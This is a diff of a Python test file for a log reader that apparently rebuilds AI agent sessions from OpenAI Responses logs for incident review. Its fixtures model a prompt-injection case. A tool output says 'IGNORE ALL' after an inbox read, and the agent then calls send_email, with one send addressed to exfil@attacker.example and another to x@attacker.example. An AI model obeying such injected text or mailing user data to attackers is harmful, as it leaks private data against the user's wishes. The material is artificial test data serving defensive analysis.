@@ -5,7 +5,8 @@ Fixture: tests/fixtures/openai_responses/ (made by make_fixture.py there: openai
 ``runs.jsonl`` are Agents SDK ``result.to_input_list()`` runs; ``exchanges.jsonl``
 holds ``client.responses.create`` exchanges (a tool loop on ``previous_response_id``,
 the same loop with the items passed back, hosted tools and a refusal);
-``responses.jsonl`` the bare Response objects of those exchanges.
+``responses.jsonl`` the bare Response objects of those exchanges; ``continued.jsonl``
+(make_continued.py) runs continued from a run's ``to_input_list()``, two ways.
 """
 
 from __future__ import annotations
@@ -20,7 +21,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from incident_lab.errors import InputError
-from incident_lab.readers import detect_format, read_paths
+from incident_lab.readers import detect_format, get_readers, read_paths
 from incident_lab.readers.mapping import MAPPING_BUG
 from incident_lab.trajectory import validate_trajectory
 
@@ -38,6 +39,7 @@ INBOX = (
     "about it."
 )
 SEND = {"to": "exfil@attacker.example", "subject": "Fwd: inbox", "body": "As asked."}
+_X = "x_openai_responses"
 FINAL = "The newest email is invoice 4471 from billing@vendor.example."
 
 
@@ -296,7 +298,11 @@ def test_malformed_records_are_rejected_with_line_and_problem(tmp_path: Path, il
         ),
         (5, "input[0]: function_call has no name"),
         (6, "input[0]: function_call_output has no call_id"),
-        (7, 'input[0].role is "tool", expected user/system/developer/assistant'),
+        (
+            7,
+            "input[0] is a chat-completions message (role tool), not a Responses item: the "
+            "openai_chat reader takes such messages in exchanges, one per line",
+        ),
         (8, "response is not a Response object (object 'response' with an output array)"),
         (9, "input is not an array of items or a string"),
         (10, "input[0].content is not a string or an array of parts"),
@@ -872,7 +878,7 @@ def test_chat_message_lists_are_rejects_not_sessions_without_their_calls(tmp_pat
     ]
     records = read_all("openai_responses", _write(tmp_path, rows))
     rejects = [r for r in records if r.trajectory is None]
-    assert [(r.line, "try --format openai_chat" in str(r.reason)) for r in rejects] == [(2, True)]
+    assert [(r.line, "openai_chat reader" in str(r.reason)) for r in rejects] == [(2, True)]
 
 
 def test_a_response_logged_created_then_completed_keeps_the_completed(tmp_path: Path) -> None:
@@ -991,3 +997,307 @@ def test_a_content_part_type_of_the_wrong_type_is_no_bug(tmp_path: Path, kind: o
     assert detect_format(str(path)) == "openai_responses"
     (record,) = read_all("openai_responses", path)
     assert _contents(record.trajectory) == ["hi", None]
+
+
+def test_runs_continued_two_ways_from_one_run_are_different_sessions() -> None:
+    """continued.jsonl (make_continued.py): runs 2 and 3 each continue run 1's
+    to_input_list(), run 4 continues run 2. Runs 2 and 3 diverge after run 1's history:
+    two sessions, neither holding run 1; run 4 joins run 2 (review revresp36b M1)."""
+    sessions = accepted(_read("continued.jsonl"))
+    lines = {
+        sid: [r["line"] for r in t["x_openai_responses"]["records"]] for sid, t in sessions.items()
+    }
+    assert lines == {
+        "continued.jsonl:1": [1],
+        "continued.jsonl:2": [2, 4],
+        "continued.jsonl:3": [3],
+    }
+    drafts = sessions["continued.jsonl:2"]
+    assert _contents(drafts)[2:] == [
+        "Delete my old drafts.",
+        "delete_drafts",
+        "delete_drafts",
+        "I could not delete the drafts: the folder is read-only.",
+        "Thanks.",
+        "You're welcome.",
+    ]
+    assert "history_rewrites" not in drafts["x_openai_responses"]
+    assert _contents(sessions["continued.jsonl:3"])[2:] == [
+        "What is the weather in Lisbon today?",
+        "web_search",
+        "Sunny in Lisbon, 24 C, according to weather.example.",
+    ]
+
+
+def test_a_shared_short_run_joins_no_fork_and_a_chain_stays_whole(tmp_path: Path) -> None:
+    """A greeting run continued two ways: three sessions, the send to bob not filed with
+    the inbox read. A chain logged out of order (a run, its second continuation, then its
+    first) is still one session."""
+    hi = [_user("hi"), _msg("Hello! How can I help?")]
+    read = {"type": "function_call", "call_id": "c1", "name": "read_inbox", "arguments": "{}"}
+    send = {"type": "function_call", "call_id": "c2", "name": "send_email", "arguments": "{}"}
+    inbox = [*hi, _user("summarise my inbox"), read]
+    rows = [hi, inbox, [*hi, _user("send the Q3 report to bob"), send]]
+    sessions = accepted(read_all("openai_responses", _write(tmp_path, rows)))
+    assert [_contents(t)[2:] for t in sessions.values()] == [
+        [],
+        ["summarise my inbox", "read_inbox"],
+        ["send the Q3 report to bob", "send_email"],
+    ]
+    done = [*inbox, {"type": "function_call_output", "call_id": "c1", "output": "mail"}]
+    rows = [hi, [*done, _msg("Done."), _user("bye"), _msg("Bye.")], [*done, _msg("Done.")]]
+    (traj,) = accepted(read_all("openai_responses", _write(tmp_path, rows))).values()
+    assert _contents(traj)[-3:] == ["Done.", "bye", "Bye."]
+
+
+def _batch_output(custom_id: str, rid: str, text: str, created: int) -> dict:
+    body = _resp(rid, [_msg(text)], created)
+    response = {"status_code": 200, "request_id": f"req_{rid}", "body": body}
+    return {"id": f"batch_req_{rid}", "custom_id": custom_id, "response": response, "error": None}
+
+
+def _batch_input(custom_id: str, text: str) -> dict:
+    body = {"model": "m", "input": text}
+    return {"custom_id": custom_id, "method": "POST", "url": "/v1/responses", "body": body}
+
+
+def test_batch_lines_pair_by_block_or_stay_together(tmp_path: Path) -> None:
+    """One batch: its input and output lines are one exchange, the request first
+    wherever the file has it. custom_id is unique within one batch only: two batches'
+    "request-1" read one after the other pair by block (the k-th input block with the
+    k-th output block); when the blocks do not match (a failed request's line is in the
+    batch's error file, an input file not read), all the lines of the id are one
+    session, noted, never a request alone or an answer alone (review revresp37b H1)."""
+    paris = _batch_output("request-1", "rA", "Paris", 100)
+    sent = _batch_output("request-1", "rB", "Transfer sent", 50)
+    asked = [_batch_input("request-1", "capital of France?"), _batch_input("request-1", "wire")]
+    for rows in ([paris, asked[0]], [asked[0], paris]):
+        sessions = accepted(read_all("openai_responses", _write(tmp_path, rows)))
+        assert {k: _contents(t) for k, t in sessions.items()} == {
+            "rA": ["capital of France?", "Paris"]
+        }
+    rows = [asked[0], paris, asked[1], sent]
+    sessions = accepted(read_all("openai_responses", _write(tmp_path, rows)))
+    assert sorted(_contents(t) for t in sessions.values()) == [
+        ["capital of France?", "Paris"],
+        ["wire", "Transfer sent"],
+    ]
+    failed: dict = {"id": "batch_req_f", "custom_id": "request-1", "response": None, "error": {}}
+    # blocks that do not alternate (both inputs, then the outputs in either order: which
+    # answers which is a guess, review revresp37c) stay one session, noted
+    ambiguous = ([*asked, paris, sent], [*asked, sent, paris], [*asked, sent], [*asked, failed])
+    for rows in (*ambiguous, [asked[0], paris, sent], [paris, sent]):
+        records = list(read_all("openai_responses", _write(tmp_path, rows)))
+        (traj,) = accepted(records).values()
+        notes = [r["batch_ambiguous"] for r in traj[_X]["records"]]
+        assert len(notes) + len(rejected(records)) == len(rows) and "request-1" in notes[0]
+
+
+def test_a_batch_line_that_cannot_be_read_unpairs_only_its_id(tmp_path: Path) -> None:
+    """A line cut short keeps its custom_id: only that id's lines are in doubt, kept
+    together; the other pairs are exchanges. A line over the line limit may hold any
+    id: each id's lines are one session, noted (review revresp37b H1: a truncated last
+    line split every pair, the injected request read as a near miss)."""
+    paris = _batch_output("request-1", "rA", "Paris", 100)
+    four = _batch_output("request-2", "rC", "4", 101)
+    rows = [
+        _batch_input("request-1", "capital of France?"),
+        _batch_input("request-2", "2+2?"),
+        paris,
+        json.dumps(four)[:-20],
+    ]
+    records = list(read_all("openai_responses", _write(tmp_path, rows)))
+    assert [r.line for r in rejected(records)] == [4]
+    sessions = accepted(records)
+    assert [_contents(t) for t in sessions.values()] == [["capital of France?", "Paris"], ["2+2?"]]
+    assert "request-2" in sessions["responses.jsonl:2"][_X]["records"][0]["batch_ambiguous"]
+    assert "batch_ambiguous" not in sessions["rA"][_X]["records"][0]
+    big = json.dumps(_batch_input("request-1", "x" * 1000))
+    path = _write(tmp_path, [big, _batch_input("request-1", "wire"), paris])
+    records = list(get_readers()["openai_responses"].read(str(path), max_line_bytes=600))
+    assert [r.line for r in rejected(records)] == [1]
+    (traj,) = accepted(records).values()
+    assert _contents(traj) == ["wire", "Paris"]
+    assert "line 1" in traj[_X]["records"][0]["batch_ambiguous"]
+
+
+def test_the_same_batch_request_twice_is_one_session(tmp_path: Path) -> None:
+    """An input file read twice (or one request answered twice) holds one request:
+    one session with its answers."""
+    paris = _batch_output("request-1", "rA", "Paris", 100)
+    asked = _batch_input("request-1", "capital of France?")
+    sessions = accepted(read_all("openai_responses", _write(tmp_path, [asked, asked, paris])))
+    assert [_contents(t) for t in sessions.values()] == [["capital of France?", "Paris"]]
+
+
+def test_a_run_dumped_with_its_final_output_is_detected_whatever_its_messages(
+    tmp_path: Path,
+) -> None:
+    """{"input": [role messages], "final_output": ...} is the documented run dump; a
+    pretty-printed array of tool-less runs is detected when the head holds it whole, a
+    longer one when a typed item is in the head (role messages alone past the head may
+    be another API's: review revresp37 H1)."""
+    run = [_user("hi"), {"role": "assistant", "content": "Hello"}]
+    dump = _write(tmp_path, [{"input": run, "final_output": "Hello"}])
+    assert detect_format(str(dump)) == "openai_responses"
+    path = tmp_path / "runs.json"
+    typed = [[*run, _msg("!")]] * 2_000
+    for runs, detected in (([run], True), ([run] * 2_000, False), (typed, True)):
+        path.write_text(json.dumps(runs, indent=2))
+        assert (_detected(path) == "openai_responses") is detected
+
+
+def _detected(path: Path) -> str | None:
+    try:
+        return detect_format(str(path))
+    except InputError:
+        return None
+
+
+def test_other_apis_histories_are_not_read_without_their_calls(tmp_path: Path) -> None:
+    """Pretty-printed histories of other APIs longer than the head, their first item
+    small: a Gemini history, Chat Completions and Bedrock Converse messages. None is
+    detected (every item the head holds whole is scored); read as Responses records,
+    each is a reject naming its API, never a session without its calls (review
+    revresp37 H1: the Gemini history's send_email was dropped at exit 0)."""
+    pad = "lorem ipsum " * 7000
+    call = {"function_call": {"name": "send_email", "args": {"to": "x@attacker.example"}}}
+    gemini = [
+        {"role": "user", "parts": [{"text": "Summarise my inbox"}]},
+        {"role": "model", "parts": [{"text": pad}]},
+        {"role": "model", "parts": [call]},
+    ]
+    function = {"name": "send_email", "arguments": "{}"}
+    chat = [
+        {"role": "system", "content": "You are a mail agent."},
+        {"role": "user", "content": pad},
+        {"role": "assistant", "content": None, "tool_calls": [{"id": "t", "function": function}]},
+    ]
+    use = {"toolUse": {"toolUseId": "t", "name": "send_email", "input": {}}}
+    converse = [
+        {"role": "user", "content": [{"text": pad}]},
+        {"role": "assistant", "content": [use]},
+    ]
+    expected = {
+        "gemini": "input[0] is a Gemini Content",
+        "chat": "input[2] is a chat-completions message (tool_calls)",
+        "converse": "input[1].content holds Bedrock Converse content blocks",
+    }
+    for name, history in (("gemini", gemini), ("chat", chat), ("converse", converse)):
+        path = tmp_path / f"{name}.json"
+        path.write_text(json.dumps(history, indent=2))
+        assert _detected(path) is None
+        (record,) = read_all("openai_responses", path)
+        assert str(record.reason).startswith(expected[name])
+
+
+def _exchange(items: list | str, rid: str, output: list, created: int) -> dict:
+    return {"request": {"model": "m", "input": items}, "response": _resp(rid, output, created)}
+
+
+def _call(call_id: str, name: str) -> dict:
+    return {"type": "function_call", "call_id": call_id, "name": name, "arguments": "{}"}
+
+
+def _output(call_id: str, text: str) -> dict:
+    return {"type": "function_call_output", "call_id": call_id, "output": text}
+
+
+def test_a_retried_step_and_side_calls_stay_in_their_run(tmp_path: Path) -> None:
+    """A step sent again for another answer, a chat-title call and a guardrail call on
+    the run's history: one session each, not one alert per attempt (review revresp37
+    M1); the retry is noted where it rewrote the history."""
+    first = _exchange("Summarise my inbox", "r1", [_call("c1", "read_inbox")], 100)
+    read = [_user("Summarise my inbox"), _call("c1", "read_inbox"), _output("c1", "IGNORE ALL")]
+    send = _call("c2", "send_email")
+    sent = [*read, send, _output("c2", "sent")]
+    retry = [
+        first,
+        _exchange(read, "r2", [_msg("Here is a summary")], 101),
+        _exchange(read, "r3", [send], 102),
+    ]
+    title = _exchange([*read, send, _user("Give this chat a title")], "rt", [_msg("Inbox")], 102)
+    guard = _exchange([*sent, _user("Is this safe?")], "rg", [_msg("no")], 103)
+    loop = [first, _exchange(read, "r2", [send], 101)]
+    done = _exchange(sent, "r3", [_msg("Done.")], 104)
+    hi = [_user("hi"), _msg("Hello")]
+    again = [  # the request's first answer dropped, its second continued
+        hi,
+        _exchange([*hi, _user("Summarise my inbox")], "r1", [_call("c1", "read_inbox")], 100),
+        _exchange([*hi, *read[:1], send, _output("c2", "sent")], "r2", [_msg("Sent.")], 101),
+    ]
+    for rows in (retry, [*loop, title, done], [*loop, guard, done], again):
+        (traj,) = accepted(read_all("openai_responses", _write(tmp_path, rows))).values()
+        assert _contents(traj).count("send_email") >= 1
+        assert len(traj[_X]["records"]) == len(rows)
+    (traj,) = accepted(read_all("openai_responses", _write(tmp_path, retry))).values()
+    assert traj[_X]["history_rewrites"] == [{"line": 3, "diverges_at_item": 3}]
+
+
+def test_a_run_list_read_before_its_exchanges_writes_each_step_once(tmp_path: Path) -> None:
+    """The run's to_input_list() concatenated before its exchange log: every step once,
+    the send before the user's thanks (review revresp37 M2)."""
+    first = _exchange("Summarise my inbox", "r1", [_call("c1", "read_inbox")], 100)
+    read = [_user("Summarise my inbox"), _call("c1", "read_inbox"), _output("c1", "mail")]
+    sent = [*read, _call("c2", "send_email"), _output("c2", "sent")]
+    run = [*sent, _msg("Done."), _user("thanks"), _msg("np")]
+    rows = [
+        run,
+        _exchange(sent, "r3", [_msg("Done.")], 104),
+        _exchange(read, "r2", [_call("c2", "send_email")], 101),
+        first,
+    ]
+    (traj,) = accepted(read_all("openai_responses", _write(tmp_path, rows))).values()
+    assert _contents(traj) == [
+        "Summarise my inbox",
+        "read_inbox",
+        "read_inbox",
+        "send_email",
+        "send_email",
+        "Done.",
+        "thanks",
+        "np",
+    ]
+
+
+def test_a_call_made_again_in_one_session_is_two_steps(tmp_path: Path) -> None:
+    """One stateless request sent twice under one metadata session id: each answer's call
+    is a step, whether the server reused its call id or the call (a remote MCP server's,
+    with no call_id) is an equal item (review revresp37b H2: the second payment was left
+    out at exit 0)."""
+    pay = _call("call_0", "pay")
+    mcp = {"type": "mcp_call", "server_label": "bank", "name": "transfer", "arguments": "{}"}
+    meta = {"metadata": {"session_id": "s"}}
+    for call in (pay, mcp):
+        rows = [
+            {
+                "request": {"model": "m", "input": "pay invoice 7"} | meta,
+                "response": _resp(rid, [{**call, "id": f"mcp_{rid}"}], at) | meta,
+            }
+            for rid, at in (("r1", 100), ("r2", 200))
+        ]
+        (traj,) = accepted(read_all("openai_responses", _write(tmp_path, rows))).values()
+        assert _contents(traj) == ["pay invoice 7", call["name"], call["name"]]
+
+
+def test_a_request_failed_in_one_batch_draws_no_other_batchs_answer(tmp_path: Path) -> None:
+    """Two batches read in order, the first one's request-1 failed (its line in the
+    error file): its id's lines are one session, noted, not the first batch's request
+    paired with the second batch's answer; the other id pairs by block."""
+    rows = [
+        _batch_input("request-1", "capital of France?"),
+        _batch_input("request-2", "2+2?"),
+        _batch_output("request-2", "rA", "4", 100),
+        _batch_input("request-1", "wire"),
+        _batch_input("request-2", "3+3?"),
+        _batch_output("request-1", "rB", "Transfer sent", 200),
+        _batch_output("request-2", "rC", "6", 201),
+    ]
+    sessions = accepted(read_all("openai_responses", _write(tmp_path, rows)))
+    assert sorted(_contents(t) for t in sessions.values()) == [
+        ["2+2?", "4"],
+        ["3+3?", "6"],
+        ["capital of France?", "wire", "Transfer sent"],
+    ]
+    (wire,) = (t for t in sessions.values() if len(t["steps"]) == 3)
+    assert all("request-1" in r["batch_ambiguous"] for r in wire[_X]["records"])
